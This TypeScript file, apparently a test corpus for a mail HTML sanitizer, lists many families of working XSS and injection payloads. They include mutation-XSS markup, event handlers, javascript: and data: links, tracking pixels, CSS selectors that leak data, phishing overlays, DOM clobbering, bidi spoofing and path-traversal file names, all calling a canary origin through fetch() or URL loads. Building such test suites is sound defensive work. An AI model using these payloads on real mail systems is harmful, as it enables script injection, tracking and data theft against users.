/**
 * What people have tried with the HTML of a mail, family by family, written for this project: markup that changes its
 * meaning when it is parsed a second time, addresses that are programs, everything that loads by itself, style that
 * leaves its place, and names that are markup. `js` is a script without quotes and blanks, so that it fits everywhere;
 * `url` is an address of somebody else's server; both say which vector they are of.
 */

/** `html` is the body of the mail; each vector may hold what another family does too. */
export type Vector = { family: string; name: string; html: string }

type Make = (to: { js: string; url: string }) => string

/** All vectors, aimed at `outside`, an origin. */
export function vectors(outside: string): Vector[] {
  return Object.entries(FAMILIES).flatMap(([family, makes]) =>
    Object.entries(makes).map(([name, make]) => {
      const place = `${outside}/${family}/${name}`.replaceAll(' ', '-')
      return { family, name, html: make({ js: `fetch(\`${place}/script\`)`, url: `${place}/request` }) }
    }),
  )
}

/** Names of files, subjects and people: they stand in the pages themselves, outside of any frame. */
export const NAMES: string[] = [
  '"><svg onload=top.ran=1>.jpg',
  "'><img src=x onerror=top.ran=1>.png",
  '</title><script>top.ran=1</script>',
  '<iframe srcdoc="<script>top.ran=1</script>">',
  '&lt;img src=x onerror=top.ran=1&gt;',
  '&#60;svg onload=top.ran=1&#62;',
  '<!--<img src="--><img src=x onerror=top.ran=1>">',
  '{{constructor.constructor("top.ran=1")()}} <%= top.ran=1 %> #{top.ran=1}',
  'javascript:top.ran=1',
  '" autofocus onfocus=top.ran=1 x="',
  "' onmouseover='top.ran=1",
  '` onerror=`top.ran=1',
  '<base href=//canary.test/>',
  '<meta http-equiv=refresh content=0;url=//canary.test/>',
  '<style>*{display:none}</style>',
  '<form action=//canary.test/><button>Go on</button>',
  '<plaintext>',
  '<!--',
  '</textarea><script>top.ran=1</script>',
  '\u202egpj.exe\u202c',
  'a\u2066\u202eb\u2069c\u200b\u200d\ufeff',
  '\u0000<script\u0000>top.ran=1</script>',
  '+ADw-script+AD4-top.ran=1+ADw-/script+AD4-',
  '../../../../etc/passwd',
  'CON',
]

const FAMILIES: Record<string, Record<string, Make>> = {
  // Parsed once it is text or an attribute, parsed again it is markup.
  mutation: {
    'style in mglyph': ({ js }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    'style in annotation-xml': ({ js }) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
    'title in svg': ({ js }) => `<svg></p><title><a id="</title><img src=x onerror=${js}>">`,
    'style in svg': ({ js }) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
    'desc and foreignObject': ({ js }) =>
      `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s></noscript><img src=x onerror=${js}></desc><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
    'math in svg in math': ({ js }) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js} src=1>">`,
    'noscript attribute': ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
    'noscript style': ({ js }) => `<noscript><style></noscript><img src=x onerror=${js}></style></noscript>`,
    'textarea attribute': ({ js }) => `<textarea><a title="</textarea><img src=x onerror=${js}>"></textarea>`,
    'title attribute': ({ js }) => `<title><a title="</title><img src=x onerror=${js}>"></title>`,
    'xmp attribute': ({ js }) => `<xmp><p title="</xmp><svg/onload=${js}>"></xmp>`,
    'noembed attribute': ({ js }) => `<noembed><p title="</noembed><img src=x onerror=${js}>"></noembed>`,
    'noframes attribute': ({ js }) => `<noframes><p title="</noframes><img src=x onerror=${js}>"></noframes>`,
    'iframe content': ({ js }) => `<iframe><p title="</iframe><img src=x onerror=${js}>"></iframe>`,
    'select and template': ({ js }) =>
      `<select><template><img src=x onerror=${js}></template></select><img src=x onerror=${js}>`,
    'template content': ({ js }) =>
      `<template><s><template><img src=x onerror=${js}></template></s></template><svg onload=${js}>`,
    'declarative shadow root': ({ js }) =>
      `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
    'comment that ends early': ({ js }) => `<!--><img src=x onerror=${js}>-->`,
    'comment that ends with a bang': ({ js }) => `<!-- --!><img src=x onerror=${js}> -->`,
    'comment within a comment': ({ js }) => `<!--<!-- --><img src=x onerror=${js}>--><p>x`,
    'conditional comment': ({ js }) =>
      `<!--[if gte mso 9]><img src=x onerror=${js}><![endif]--><![if !mso]><img src=x onerror=${js}><![endif]>`,
    'processing instruction': ({ js }) => `<?xml version="1.0"?><?x ><img src=x onerror=${js}> ?>`,
    'cdata in html': ({ js }) => `<![CDATA[ ><img src=x onerror=${js}> ]]>`,
    'cdata in svg': ({ js }) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
    'bogus doctype': ({ js }) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${js}>">]>&y;<img src=x onerror=${js}>`,
    'nested forms': ({ js }) =>
      `<form id=a><div></form><form id=b><input name=x></form></div><svg onload=${js}></form>`,
    'table foster parenting': ({ js }) =>
      `<table><tr><svg><style><a title="</style><img src=x onerror=${js}>"></table>`,
    plaintext: ({ js }) => `<p>x<plaintext></p><img src=x onerror=${js}>`,
    'listing and pre': ({ js }) =>
      `<listing>&lt;img src=x onerror=${js}&gt;</listing><pre>&lt;svg onload=${js}&gt;</pre>`,
    'entities decoded twice': ({ js }) =>
      `&amp;lt;img src=x onerror=${js}&amp;gt;<p title="&lt;img src=x onerror=${js}&gt;">x</p>`,
    'unclosed attribute': ({ js }) => `<img src="x onerror=${js} //"><p title="><img src=x onerror=${js}>`,
    'tags without end': ({ js }) => `<img src=x onerror=${js}//<p`,
  },
  // The attribute is hidden from a parser that is not the browser's.
  attribute: {
    'event handlers': ({ js }) =>
      `<body onload=${js} onpageshow=${js}><img src=x onerror=${js}><details open ontoggle=${js}>x</details><marquee onstart=${js}>x</marquee>`,
    'slash instead of a blank': ({ js }) => `<svg/onload=${js}><img/src=x/onerror=${js}>`,
    'line ends and form feeds': ({ js }) => `<img\nsrc=x\fonerror\n=\r${js}><img\tsrc="x"\tonerror\t=\t"${js}">`,
    backticks: ({ js }) => `<img src=\`x\` onerror=${js}><img src="x\`" \`<script>${js}</script>">`,
    'entities in handlers': ({ js }) =>
      `<img src=x onerror="${js.replaceAll('t', '&#x74;').replaceAll('(', '&lpar;')}">`,
    'nul bytes': ({ js }) =>
      `<im\0g src=x onerror=${js}><img src=x oner\0ror=${js}><scr\0ipt>${js}</scr\0ipt><img src=x\0 onerror=${js}>`,
    'doubled attributes': ({ js }) =>
      `<img src=x title=a title=b onerror=1 onerror=${js}><img onerror=${js} src=x src=y>`,
    'no blank between': ({ js }) => `<img src="x"onerror=${js}><a href="#"onfocus=${js} autofocus tabindex=0>x</a>`,
    autofocus: ({ js }) => `<input autofocus onfocus=${js}><p contenteditable autofocus onfocus=${js}>x</p>`,
    'animation ends': ({ js }) => `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend=${js}>x</p>`,
    'odd element names': ({ js }) =>
      `<x-a onfocus=${js} tabindex=0 autofocus>x</x-a><image src=x onerror=${js}><ımg src=x onerror=${js}>`,
    'upper case': ({ js }) => `<ScRiPt>${js}</sCrIpT><IMG SRC=x ONERROR=${js}><SVG ONLOAD=${js}>`,
    popover: ({ js }) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${js}>x</div>`,
  },
  // An address that is a program, or a page of its own; a person would have to click.
  address: {
    javascript: ({ js }) => `<a href="javascript:${js}">x</a>`,
    'javascript with controls': ({ js }) =>
      `<a href="\x01 java\tscr\nipt\r:${js}">x</a><a href="java&Tab;script&colon;${js}">y</a>`,
    'javascript in entities': ({ js }) =>
      `<a href="&#106;&#x61;vascript&#0000058;${js}">x</a><a href="&#14;javascript:${js}">y</a>`,
    'javascript percent': ({ js }) =>
      `<a href="javascript://x.example/%0a${js}">x</a><a href="javascript&#x3a;//--></script>%0d${js}">y</a>`,
    vbscript: ({ js }) =>
      `<a href="vbscript:MsgBox(1)">x</a><a href="livescript:${js}">y</a><a href="mocha:${js}">z</a>`,
    'data page': ({ js }) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
    'data page in base64': ({ js }) =>
      `<a href="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">x</a>`,
    'blob and filesystem': () =>
      `<a href="blob:null/1">x</a><a href="filesystem:http://x.example/a">y</a><a href="file:///etc/passwd">z</a>`,
    'view-source and about': ({ url }) =>
      `<a href="view-source:${url}">x</a><a href="about:blank">y</a><a href="intent://x#Intent;end">z</a>`,
    'no scheme': ({ url }) =>
      `<a href="${url.slice(5)}">x</a><a href="/outbox">y</a><a href="../../sign-out">z</a><a href="\\\\canary.test\\x">w</a>`,
    xlink: ({ js }) => `<svg><a xlink:href="javascript:${js}"><text x=0 y=20>x</text></a></svg>`,
    'math href': ({ js }) =>
      `<math href="javascript:${js}"><mi>x</mi></math><math><maction actiontype="statusline#x" xlink:href="javascript:${js}">x</maction></math>`,
    'image map': ({ js, url }) =>
      `<img usemap=#m width=50 height=50><map name=m><area shape=rect coords=0,0,50,50 href="javascript:${js}"><area href="${url}"></map>`,
    'form action': ({ js }) =>
      `<form action="javascript:${js}"><input type=submit></form><form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
    'iframe src': ({ js }) =>
      `<iframe src="javascript:${js}"></iframe><embed src="javascript:${js}"><object data="javascript:${js}"></object>`,
    'svg animates an address': ({ js }) =>
      `<svg><a id=a><animate attributeName=href values="javascript:${js}" /><text x=0 y=20>x</text></a></svg>`,
    'svg sets an address': ({ js }) =>
      `<svg><a><set attributeName=xlink:href to="javascript:${js}" begin=0s /><text x=0 y=20>x</text></a></svg>`,
  },
  // A page within the page.
  document: {
    script: ({ js, url }) =>
      `<script>${js}</script><script src="${url}.js"></script><script type=module>${js}</script>`,
    'script in svg': ({ js, url }) =>
      `<svg><script>${js}</script><script href="${url}.js" /><script xlink:href="${url}2.js" /></svg>`,
    'svg onload': ({ js }) => `<svg onload=${js}><g onload=${js}></g></svg>`,
    'svg animation events': ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s /></svg>`,
    'iframe srcdoc': ({ js }) =>
      `<iframe srcdoc="<script>${js}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
    'object, embed, applet': ({ url }) =>
      `<object data="${url}1"></object><embed src="${url}2"><applet code="${url}3"></applet><object type="text/html" data="${url}4"></object>`,
    'object of data': ({ js }) =>
      `<object data="data:text/html,<script>${js}</script>"></object><embed src="data:text/html,<script>${js}</script>"><iframe src="data:text/html,<script>${js}</script>"></iframe>`,
    frameset: ({ js, url }) => `<frameset onload=${js}><frame src="${url}"></frameset>`,
    'meta refresh': ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
    'meta refresh to data': ({ js }) =>
      `<meta http-equiv="Refresh" content="0; URL='data:text/html,<script>${js}</script>'">`,
    'meta policy and cookies': ({ url }) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url}"><meta http-equiv="Set-Cookie" content="postroom=x"><meta name=referrer content=unsafe-url><img src="${url}.png">`,
    base: ({ url }) => `<base href="${url}/" target="_top"><img src="relative.png"><a href="relative">x</a>`,
    'import map': ({ js }) =>
      `<script type=importmap>{"imports":{"a":"data:text/javascript,${js}"}}</script><script type=module>import 'a'</script>`,
    'portal and fenced frame': ({ url }) =>
      `<portal src="${url}1"></portal><fencedframe src="${url}2"></fencedframe><iframe src="${url}3" loading=eager></iframe>`,
    xslt: ({ js }) =>
      `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script><html:script>${js}</html:script>`,
  },
  // What a browser asks for without being asked.
  loading: {
    images: ({ url }) =>
      `<img src="${url}1.png"><img src="${url.replace('http:', '')}2.png"><image src="${url}3.png"><input type=image src="${url}4.png">`,
    'image sets': ({ url }) =>
      `<img srcset="${url}1.png 1x, ${url}2.png 2x"><picture><source srcset="${url}3.png"><img src="${url}4.png"></picture><img src="data:," srcset="${url}5.png, x">`,
    'old image attributes': ({ url }) =>
      `<img lowsrc="${url}1" dynsrc="${url}2" longdesc="${url}3"><body background="${url}4"><table background="${url}5"><tr><td background="${url}6">x</table>`,
    'picture of one point': ({ url }) => `<img src="${url}.gif" width=1 height=1 alt="" style="display:none">`,
    'cid that is an address': ({ url }) =>
      `<img src="cid:${url}"><img src="cid:x&quot; src=&quot;${url}"><img src="cid:a@b%22%20onerror=1"><img src=" ${url}">`,
    media: ({ url }) =>
      `<video src="${url}1" poster="${url}2" autoplay></video><audio src="${url}3" autoplay></audio><video autoplay><source src="${url}4"><track default src="${url}5"></video>`,
    'links in the head': ({ url }) =>
      `<link rel=stylesheet href="${url}1.css"><link rel=icon href="${url}2"><link rel=prefetch href="${url}3"><link rel=preload as=image href="${url}4"><link rel=modulepreload href="${url}5"><link rel=prerender href="${url}6"><link rel=manifest href="${url}7">`,
    'names to resolve': ({ url }) =>
      `<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="http://dns.canary.test"><link rel=preconnect href="http://connect.canary.test"><a href="http://link.canary.test/x">x</a><a href="${url}">y</a>`,
    svg: ({ url }) =>
      `<svg><image href="${url}1.png" width=9 height=9 /><use href="${url}2.svg#x" /><feImage href="${url}3.png" /><filter id=f><feImage xlink:href="${url}4.png" /></filter><rect filter="url(#f)" fill="url(${url}5.svg#x)" width=9 height=9 /></svg>`,
    'svg image of data': ({ js, url }) => {
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${url}" width="9" height="9"/></svg>`
      return `<img src="data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}"><img src="data:image/svg+xml,${encodeURIComponent(svg)}">`
    },
    'image that is a page': ({ js }) =>
      `<img src="data:text/html,<script>${js}</script>"><img src="data:image/png;base64,"><img src="data:image/png,<script>${js}</script>">`,
    'ping and attribution': ({ url }) =>
      `<a href="#x" ping="${url}1">x</a><img src="data:," attributionsrc="${url}2"><a href="${url}3" attributionsrc="${url}4">y</a>`,
    speculation: ({ url }) =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script><a href="${url}">x</a>`,
    'form that sends itself': ({ url, js }) =>
      `<form id=f action="${url}" method=post><input name=x value=y><input type=image src=x onerror=${js}><button autofocus onfocus="form.submit()">x</button></form>`,
    'html manifest': ({ url }) =>
      `<html manifest="${url}1"><head profile="${url}2"><body><isindex action="${url}3"><command icon="${url}4"><bgsound src="${url}5"><layer src="${url}6">`,
  },
  // Style that loads, runs, or leaves its place.
  style: {
    url: ({ url }) =>
      `<p style="background:url(${url}1)">x</p><p style="background-image:url('${url}2');list-style:url(${url}3)">y</p><p style='border-image:url("${url}4") 1;cursor:url(${url}5),auto;content:url(${url}6)'>z</p>`,
    'url in escapes': ({ url }) =>
      `<p style="background:u\\72l(${url}1)">x</p><p style="background:\\000075rl(${url}2)">y</p><p style="background:url(/*x*/${url}3)">z</p><p style="background&#58;ur&#108;(${url}4)">w</p>`,
    'image-set and more': ({ url }) =>
      `<p style="background:image-set('${url}1' 1x)">x</p><p style="background:-webkit-image-set(url(${url}2) 1x)">y</p><p style="background:cross-fade(url(${url}3),url(${url}3),50%)">z</p><p style="--x:url(${url}4);background:var(--x)">v</p>`,
    import: ({ url }) =>
      `<style>@import '${url}1';@import url(${url}2) screen;</style><style>@\\69mport "${url}3";</style>`,
    'font face': ({ url }) =>
      `<style>@font-face{font-family:x;src:url(${url}1)}@font-face{font-family:y;src:url(${url}2);unicode-range:U+0041}*{font-family:x,y}</style><p>A secret</p>`,
    'selectors that tell': ({ url }) =>
      `<style>input[value^=a]{background:url(${url}1)}a[href*=ticket]{background:url(${url}2)}body:has(p){background:url(${url}3)}p::first-letter{background:url(${url}4)}</style><p><a href="http://x.example/ticket">x</a><input value=abc></p>`,
    'style in svg and in body': ({ url }) =>
      `<svg><style>*{background:url(${url}1)}</style></svg><p><style>p{background:url(${url}2)}</style>x</p>`,
    'expression and behaviour': ({ js, url }) =>
      `<p style="width:expression(${js})">x</p><p style="-moz-binding:url(${url}#x);behavior:url(${url})">y</p><style>p{width:exp/**/ression(${js})}</style>`,
    'style breaks out of its attribute': ({ js, url }) =>
      `<p style="color:red&quot; onclick=${js} x=&quot;">x</p><p style="font-family:'a&quot;;background:url(${url})'">y</p><p style="color:red;}</style><img src=x onerror=${js}>">z</p>`,
    'fixed over everything': ({ url }) =>
      `<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:2147483647;background:#f00"><a href="${url}">Sign in again</a></div>`,
    'absolute and negative': () =>
      `<div style="position:absolute;top:-500px;left:-500px;width:3000px;height:3000px;background:#0f0">x</div><div style="margin:-400px 0 0 -400px;background:#00f">y</div><div style="margin-top:-99em">z</div>`,
    'transform and inset': () =>
      `<div style="transform:translate(-500px,-500px) scale(20);background:#f0f">x</div><div style="position:sticky;inset:-99px;translate:-400px -400px">y</div><div style="position:relative;top:-300px">z</div>`,
    'position in disguise': () =>
      `<div style="pos\\69tion:fixed;top:0;left:0;width:100%;height:100%;background:#ff0">x</div><div style="POSITION : FIXED ;top:0">y</div><div style="position/**/:fixed;top:0">z</div><div style="color:red;;;position:fixed!important;top:0">w</div>`,
    'rules for the whole page': () =>
      `<style>html,body,header,main,.side,.comment{display:none!important}*{color:#f00!important;position:fixed!important}</style><p>x</p>`,
    'link to style of data': () =>
      `<link rel=stylesheet href="data:text/css,*{display:none}"><style media=all>:root{--accent:red}</style>`,
    'huge things': () =>
      `<p style="font-size:9999px;width:99999px;height:99999px;line-height:9999;letter-spacing:9999px;padding:99999px;border:999px solid red">x</p>`,
    'classes of the desk': () =>
      `<div class="side desk comment note flash warning primary" id="main"><button class="primary">Save</button><p class="problem" id="work-problem">x</p></div>`,
    'blinking and moving': () =>
      `<marquee behavior=alternate width=9999 height=9999>x</marquee><blink>y</blink><p style="animation:x 1s infinite;transition:all 1s">z</p>`,
  },
  // Names that scripts of a page would trip over, and words that are not what they look like.
  names: {
    'document properties': () =>
      `<img name=cookie><img name=body><form name=forms><input name=action><input name=submit></form><a id=location href="http://x.example">x</a><img id=documentElement>`,
    'prototype words': () =>
      `<a id=__proto__ name=constructor href="http://x.example">x</a><p id=hasOwnProperty class=toString title=valueOf>y</p><p __proto__=x constructor=y>z</p>`,
    'ids of the page': () =>
      `<a id=text name=text href="http://x.example">x</a><p id=work>y</p><p id=conversation>z</p><label for=text>w</label><p id=main>v</p>`,
    'frames by name': ({ url }) =>
      `<iframe name=top src="${url}1"></iframe><a href="http://x.example" target=_top>x</a><a href="http://x.example" target=_parent>y</a><form target=_top action="${url}2"><button>z</button></form>`,
    'turned text': () =>
      `<p>\u202egnp.elif\u202c <b>\u2067abc\u2069</b> <bdo dir=rtl>drow</bdo> <a href="http://evil.example">\u202emoc.knab\u202c</a></p>`,
    'unseen text': () =>
      `<p>ba\u200bnk\u00ad.ex\u2060ample\ufeff</p><p style="font-size:0;color:#fff;display:none">unseen</p><p style="text-indent:-9999px">unseen</p>`,
    'deep and wide': ({ js }) => `${'<div><b><i>'.repeat(400)}<img src=x onerror=${js}>${'<p>'.repeat(400)}`,
    'charset in disguise': ({ js }) =>
      `<meta charset=utf-7>+ADw-script+AD4-${js}+ADw-/script+AD4-<meta http-equiv=content-type content="text/html;charset=iso-2022-jp">\x1b$B<script>\x1b(B${js}</script>`,
  },
}
